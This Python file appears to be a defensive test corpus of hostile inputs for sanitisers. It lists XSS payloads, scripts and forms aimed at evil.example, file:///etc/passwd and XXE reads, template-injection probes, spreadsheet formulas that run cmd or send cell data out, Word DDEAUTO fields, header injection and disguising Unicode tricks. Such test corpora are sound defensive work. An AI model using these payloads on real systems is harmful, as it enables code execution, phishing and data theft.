"""What is typed into a box by somebody who wants it to be more than words: on a page, in a letter, in Word, in Excel, on paper.

Whatever of it becomes an element has the attribute `hx`.
"""

MARKUP = (
    "<script hx>alert(1)</script>",
    "<ScRiPt hx src=//evil.example/x.js></sCrIpT>",
    "<scr<script hx>ipt hx>alert(1)</scr</script>ipt>",
    "<img hx src=x onerror=alert(1)>",
    "<img hx src=x onerror=alert(1)//",
    "<svg hx onload=alert(1)>",
    "<svg hx><script hx>alert(1)</script></svg>",
    "<svg hx><style hx><img hx src=x onerror=alert(1)></style></svg>",
    "<math hx><mtext hx><table hx><mglyph hx><style hx><!--</style><img hx src=x onerror=alert(1)>",
    '<math hx><mi xlink:href="javascript:alert(1)" hx>click</mi></math>',
    '<svg hx><a hx xlink:href="javascript:alert(1)"><text hx x=20 y=20>click</text></a></svg>',
    "<svg hx><use hx href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    '<svg hx><image hx href="http://evil.example/i.png"/></svg>',
    "<style hx>@import url(http://evil.example/x.css); *{background:url(http://evil.example/)}</style>",
    '<p hx style="background:url(javascript:alert(1));position:fixed;inset:0">over all</p>',
    "<link hx rel=stylesheet href=http://evil.example/x.css>",
    "<link hx rel=attachment href=file:///etc/passwd>",
    '<a hx rel=attachment href="file:///etc/passwd">a file</a>',
    '<meta hx http-equiv=refresh content="0;url=http://evil.example/">',
    "<base hx href=http://evil.example/>",
    '<iframe hx srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe hx src=javascript:alert(1)></iframe>",
    "<object hx data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed hx src=http://evil.example/x.swf>",
    "<form hx action=http://evil.example/><input hx name=password><button hx>Sign in again</button></form>",
    "<input hx autofocus onfocus=alert(1)>",
    "<details hx open ontoggle=alert(1)>",
    "<video hx><source hx onerror=alert(1)></video>",
    "<body hx onload=alert(1)>",
    "<template hx><script hx>alert(1)</script></template>",
    '<noscript hx><p hx title="</noscript><img hx src=x onerror=alert(1)>">',
    "<textarea hx></textarea><script hx>alert(1)</script>",
    "</textarea><script hx>alert(1)</script>",
    "</title></style></script><script hx>alert(1)</script>",
    "</p></div></section></main><script hx>alert(1)</script>",
    '"><script hx>alert(1)</script>',
    "'><script hx>alert(1)</script>",
    '" autofocus onfocus=alert(1) hx="',
    "' onmouseover='alert(1)' hx='",
    "`onmouseover=alert(1) hx=`",
    "<!--<img hx src=x onerror=alert(1)>-->",
    "<!--><script hx>alert(1)</script>",
    "<![CDATA[<script hx>alert(1)</script>]]>",
    "]]><script hx>alert(1)</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x hx>&e;</x>',
    "&lt;script hx&gt;alert(1)&lt;/script&gt;",
    "&#60;script hx&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b hx&amp;gt;twice&amp;lt;/b&amp;gt;",
    "\u003cscript hx\u003ealert(1)\u003c/script\u003e \\u003cscript hx\\u003e",
    "+ADw-script hx+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript hx\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript hx\uff1ealert(1)\uff1c/script\uff1e",
)
"""Elements, attributes and comments, plain and disguised."""

ADDRESSES = (
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](http://evil.example/pixel.png)",
    "javascript:alert(1)//https://example.org",
    'https://example.org/"onmouseover="alert(1)"hx="',
    "https://example.org/'><b hx>bold</b>",
    "https://paypal.example@evil.example/<b hx>",
    "vbscript:msgbox(1) file:///etc/passwd \\\\evil.example\\share",
)

TEMPLATES = (
    "{{7*7}} {{config}} {% for x in [1] %}a{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "%s %(x)s {0} {x!r}",
)

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=WEBSERVICE(\"http://evil.example/\")", "=IMPORTXML(\"http://evil.example/\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!D2", "\uff1d1+1", "\";=1+1;\"", "x\n=1+1", "12", "-5 per cent is too little",
)  # fmt: skip
"""For spreadsheets; the last two are none, and stay as they were written."""

FIELDS = (
    "{ INCLUDETEXT \"c:\\\\windows\\\\win.ini\" }", "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
    "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO cmd\"/><w:r><w:t>", "_x000D_ _x0041_", "\\field{\\*\\fldinst INCLUDEPICTURE x}",
)  # fmt: skip
"""For Word."""

LINES = ("Subject: x\r\nBcc: all@evil.example", "one\u2028two\u2029three\x85four\x0bfive\x0csix")
"""For letters, and for whatever counts lines."""

TRICKS = (
    "admin\u202egpj.exe",
    "\u2066isolated\u2069 \ufeffmarked\u2060",
    "\u001b[31mred",
    "a\u0000b",
    "\ud83d",
    "\ufffe",
    "\x9b31m",
)
"""Hidden characters: taken out where nothing is lost, refused where something might be."""

CORPUS = (*MARKUP, *ADDRESSES, *TEMPLATES, *FORMULAS, *FIELDS, *LINES, *TRICKS)
